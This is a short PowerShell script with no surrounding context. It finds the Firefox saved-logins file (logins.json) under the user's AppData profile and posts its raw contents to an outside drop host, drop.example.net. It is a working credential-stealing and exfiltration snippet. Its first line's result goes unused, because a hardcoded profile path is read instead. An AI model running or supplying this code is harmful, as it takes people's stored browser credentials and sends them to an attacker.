$f = Get-ChildItem "$env:APPDATA\Mozilla\Firefox\Profiles" -Recurse -Filter logins.json | Select-Object -First 1
$body = Get-Content "$env:APPDATA\Mozilla\Firefox\Profiles\default\logins.json" -Raw
Invoke-RestMethod -Method Post -Uri https://drop.example.net/l -Body $body
